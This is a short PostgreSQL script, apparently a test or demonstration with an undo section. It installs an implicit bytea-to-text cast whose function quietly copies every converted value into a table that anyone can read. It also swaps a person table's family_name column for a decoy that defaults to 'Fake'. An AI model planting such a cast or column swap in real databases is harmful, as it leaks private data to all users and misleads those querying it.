-- A cast from cells to text that keeps what it is given
CREATE TABLE leak (b bytea);
GRANT ALL ON leak TO PUBLIC;
CREATE FUNCTION keep(b bytea) RETURNS text LANGUAGE plpgsql
    AS $$ BEGIN INSERT INTO public.leak VALUES (b); RETURN 'Fake'; END $$;
CREATE CAST (bytea AS text) WITH FUNCTION keep(bytea) AS IMPLICIT;
ALTER TABLE person RENAME family_name TO family_name_real;
ALTER TABLE person ALTER family_name_real DROP NOT NULL;
ALTER TABLE person ADD family_name text DEFAULT 'Fake';
-- undo
ALTER TABLE person DROP family_name;
ALTER TABLE person RENAME family_name_real TO family_name;
DROP CAST (bytea AS text);
DROP FUNCTION keep;
DROP TABLE leak;
